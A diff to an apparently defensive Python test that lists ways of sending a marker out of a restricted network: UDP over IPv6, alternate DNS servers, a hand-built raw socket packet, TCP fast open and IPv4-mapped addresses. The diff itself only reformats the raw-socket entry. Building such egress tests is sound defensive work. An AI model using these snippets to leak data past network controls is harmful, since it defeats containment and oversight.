@@ -115,7 +115,9 @@ ATTEMPTS = {
     "udp over IPv6": f"s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(marker, ({V6!r}, 443))",
     "another DNS server": f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(question, ({V4!r}, 53))",
     "another DNS server over TCP": f"s = socket.create_connection(({V4!r}, 53), 3); s.sendall(len(question).to_bytes(2) + question); time.sleep(.2)",
-    "a raw socket": f"s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 17); s.sendto(b'\\0\\x35\\0\\x35' + (8 + len(marker)).to_bytes(2) + b'\\0\\0' + marker, ({V4!r}, 0))",
+    "a raw socket": f"""
+        header = b"\\0\\x35\\0\\x35" + (8 + len(marker)).to_bytes(2) + b"\\0\\0"
+        socket.socket(socket.AF_INET, socket.SOCK_RAW, 17).sendto(header + marker, ({V4!r}, 0))""",
     "tcp fast open": f"s = socket.socket(); s.settimeout(3); s.sendto(marker, 0x20000000, ({V4!r}, 443)); time.sleep(.2)",
     "a bound source": f"s = socket.socket(); s.settimeout(3); s.bind(('', 0)); s.connect(({V4!r}, 80)); s.sendall(marker); time.sleep(.2)",
     "IPv4 mapped in IPv6": f"s = socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(('::ffff:{V4}', 443)); s.sendall(marker); time.sleep(.2)",
